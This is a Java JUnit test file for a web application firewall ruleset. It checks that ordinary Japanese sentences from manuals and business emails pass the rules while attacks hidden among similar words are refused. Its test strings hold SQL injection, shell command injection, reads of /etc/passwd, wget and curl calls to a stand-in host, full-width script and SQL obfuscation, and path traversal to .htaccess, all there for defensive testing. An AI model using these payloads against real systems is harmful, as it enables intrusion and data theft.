package sekisho.waf;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import sekisho.waf.Submissions.Shape;

/** What the rules take for Japanese sentences, and the attacks that are one step away from each. */
class JapaneseRulesTest {
    private static final RuleSet RULES = Submissions.rules();

    /** The rules as they are published. */
    private static final RuleSet PUBLISHED = published();

    private static RuleSet published() {
        try {
            Tuning tuning = new Tuning(true, 1, 5, 4, 1 << 20, true, true, List.of(), List.of(), List.of(), false);
            return switch (RuleSet.load(CoreRuleSet.in(Crs.FOLDER).orElseThrow().texts(tuning))) {
                case RuleSet.Loaded loaded -> loaded.rules();
                case RuleSet.Rejected rejected -> throw new AssertionError(rejected.problems());
            };
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // 942100: quoted signs
                "ファイル名に \"-\" を指定すると標準入力から読み込みます。",
                "FILE が '-' である場合、標準入力から読み込みます。",
                "'#' で始まる行はコメントである。",
                "限定詞 '-' をつけると現在のウィンドウまで、限定詞 '+' をつけると現在のウィンドウ以降、となる。",
                "ハイフン ('-')を指定すれば、標準入力から読み込むこともできる。",
                // 942151, 933160: names that call nothing
                "与えられた角度の Cos (コサイン、余弦) 値を計算します。",
                "非 ASCII 文字が含まれている(ピリオドで区切られる)名前は変換されます。",
                "オプションはappend(追加)、insert(挿入)またはdelete(削除) コマンドと組み合わせます。",
                "テキストは file (割り付けなし) から読み込まれます。",
                "MD5 (Message Digest) による要約です。",
                "コマンド ウィンドウに直接入力する場合は、cos(<?>) とします。",
                "デフォルトは Exp (Experimental: 実験的) です。",
                "実数の cos( expr ) expr の余弦をラジアンで与えます。",
                "報告は Debian Bug Tracking System (BTS) で確認します。",
                "system( cmd-line ) コマンドを実行し、終了ステータスを返します。",
                "これらの関数は sqrt(x*x + y*y) の値を返す。",
                // 942100: files of a folder, the title of an entry
                "debian/* ファイルを除外して作成します。",
                "% '%' 文字を出力する。",
                // 942190
                "利用できるのは user (非内部サービスのみ) です。",
                // 941130, 941160
                "出力には HTML と XHTML と LaTeX を選べます。",
                "詳細な情報は、ヘッダーファイル <elf.h> と <link.h> にある。",
                // 942360
                "ユーザーアカウントが必要なので、 create a wiki user で作成してください。",
                // 932235, 932250, 932260: names of commands
                "grep は、正規表現 (BRE)、拡張正規表現 (ERE) という 2 種類の文法を扱うことができます。",
                "gzip はファイルを圧縮するための道具です。",
                "sudo 1.8.5 以降では、引き数が渡されるようになっている。",
                "XZ Utils のバージョンが同一であっても、結果が異なる場合があります。",
                "(Telnet のような) もっと拡張性のあるプロトコルが用いられるべきである。",
                "bzip2, bunzip2 はブロックソートによってファイルを圧縮・伸長する。",
                "watch は command を繰り返し実行し、その出力を表示する (一画面に収まるまで)。",
                "emacs emacs 形式のコマンド行編集インタフェースを使います。",
                "WC [format] 脚注とディスプレイの幅の調整。",
                "expr .c expr を大文字に変換したものです。",
                "visudo は問題を見つけると \"What now?\" というプロンプトを出す。",
                "gzip 圧縮された \"foo.tar.gz\" アーカイブからファイルを展開します。",
                "mkfifo - FIFO (名前付きパイプ) を作成します。",
                "キーボードからは (Command)(Ctrl)+(X) を使い、(Cut) で移動し、(Command)(Ctrl)+(V) で戻します。",
                "最初に Command Ctrl + B を押し、終了時に再度 Command Ctrl + B を押します。",
                "CPU と同様に CFQ Time Sliced でも I/O nice レベルが実装されている。",
                // names behind a word, statements, keys, quotations that are set off
                "後者は HEX (SSL) 暗号化に対応しているサーバの場合である。",
                "insert (+) これが設定されている場合、コマンドラインエディタが使われます。",
                "pidof は指定されたプログラムのプロセス FILE(PID)を調べ、結果を標準出力に書き出す。",
                "以前の変更によるこの動作は、 rename 3.5 以降で利用できる。",
                "ショートカットキー (Insert + F) を押すと検索窓が開きます。",
                "[Home]/[End] キーを押下した時のカーソルの動きを指定します。",
                "モデルからデータ型 '#type#' を削除しますか？",
                "グラフの \"+\"フィールドが存在しません。",
                "netstat: サポートしていない種類のアドレスが指定されました。",
                // 930120
                "設定は、etc/squid/squid.conf のキャッシュサイズも更新してください。",
                ".htaccess ファイル内の設定は強制されます。",
                // 932370, 932130
                "<DELETE> (または <RUBOUT>) を押しても同様に終了します。",
                "<(list) の形式を使った場合、引き数として渡されたファイルを読みます。",
                "請求書をお送りします。\nExcelの表をそのまま貼り付けても大丈夫でしょうか。",
                "よろしくお願いします <(_ _)> 山田"
            })
    void aSentencePasses(String sentence) {
        for (Shape shape : Shape.values()) {
            assertThat(Submissions.refusedBy(RULES, shape, sentence))
                    .as("%s", shape)
                    .isEmpty();
        }
        assertThat(Submissions.refusedBy(PUBLISHED, Shape.FORM, sentence))
                .as("as published")
                .isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "あ'-'い",
                "お世話になっております。先日の件ですが'-'、ご確認のほどよろしくお願いいたします。",
                "お世話になっております。先日の件ですが'-' or 1=1 -- 、ご確認のほどよろしくお願いいたします。",
                "見積書の備考に '-' をご記入ください' union select password from users -- 。",
                "見積書の備考に '/*' をご記入ください' union select password from users -- 。",
                "与えられた角度の ascii(パスワード) or 1=1 -- よろしくお願いします。",
                "1 and ascii(パスワード) > 64 よろしくお願いいたします。",
                "角度の' and ascii (氏名) を",
                "見積書の備考に sleep(5) とご記入ください。",
                "見積書の備考に substr(password from 1 for 1) とご記入ください。",
                "見積書の備考に system('id') とご記入ください。",
                "見積書の備考に system(id) とご記入ください。",
                "<?php テキストは system (割り付け) から読み込まれます。",
                "日本 (select password from users) 日本",
                "見積書の備考に drop table users とご記入ください。",
                "見積書の備考です; drop users now とご記入ください。",
                "wget evil.example です。ご確認のほどよろしくお願いいたします。",
                "wget は evil.example です。ご確認のほどよろしくお願いいたします。",
                "WGET evil.example です。ご確認のほどよろしくお願いいたします。",
                "wget は http://evil.example/ です。よろしくお願いいたします。",
                "grep は /etc/passwd です。よろしくお願いいたします。",
                "grep は -r です。よろしくお願いいたします。",
                "cat /etc/passwd です。よろしくお願いいたします。",
                "time (reboot) です。よろしくお願いいたします。",
                "dpkg $(reboot) です。よろしくお願いいたします。",
                "grep は次の三種類です;wget evil.example",
                "grep は次の `reboot` です。よろしくお願いいたします。",
                "grep は結果を >index.php へ書きます。よろしくお願いいたします。",
                "env 名=値 ls です。よろしくお願いいたします。",
                "お世話になっております\nsudo reboot です。よろしくお願いいたします。",
                "お世話になっております;wget は evil です。よろしくお願いいたします。",
                "/.htaccess です。よろしくお願いいたします。",
                "見積書の備考に ../.htaccess とご記入ください。",
                "見積書の備考に .htaccess",
                "お世話になっております。<(cat /etc/passwd)> よろしくお願いいたします。",
                "お世話になっております。\nexcel.exe の起動 \n powershell -c calc"
            })
    void anAttackAmongSuchWordsDoesNot(String attack) {
        for (Shape shape : Shape.values()) {
            assertThat(Submissions.refusedBy(RULES, shape, attack))
                    .as("%s", shape)
                    .isNotEmpty();
        }
    }

    /**
     * Why quoted signs and lines of words may pass: who can make use of them has these already. When the rules come to refuse one of
     * them, {@code docs/waf.md} has to be thought over.
     */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "tanaka'- 'b' 'c",
                "tanaka'#",
                "tanaka'-- ",
                "cat secrets.txt",
                "rm -r data",
                "mv index.php x",
                "python x.py",
                "curl evil.example",
                "kill 1",
                "reboot"
            })
    void theRulesAsPublishedLetThesePass(String attack) {
        assertThat(Submissions.refusedBy(PUBLISHED, Shape.FORM, attack)).isEmpty();
    }

    @Test
    void fullWidthTextIsLookedAtAsItIsWhereItIsNormalised() {
        String attack = "お世話になっております。＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞";
        String union = "１＇　ｕｎｉｏｎ　ｓｅｌｅｃｔ　ｐａｓｓｗｏｒｄ　ｆｒｏｍ　ｕｓｅｒｓ－－　";
        for (Shape shape : Shape.values()) {
            assertThat(Submissions.refusedBy(RULES, shape, attack)).isNotEmpty();
            assertThat(Submissions.refusedBy(RULES, shape, union)).isNotEmpty();
        }
        assertThat(Submissions.refusedBy(RULES, Shape.JSON, "＄（ｃａｔ　／ｅｔｃ／ｐａｓｓｗｄ）"))
                .isNotEmpty();
    }

    @Test
    void anArgumentCountsOnceWhateverItsForms() {
        String address = "〒１００－０００１　東京都千代田区千代田１－１　ひかりビル＃５０２（総務部）";
        assertThat(Submissions.refusedBy(RULES, Shape.FORM, address)).isEmpty();
    }
}
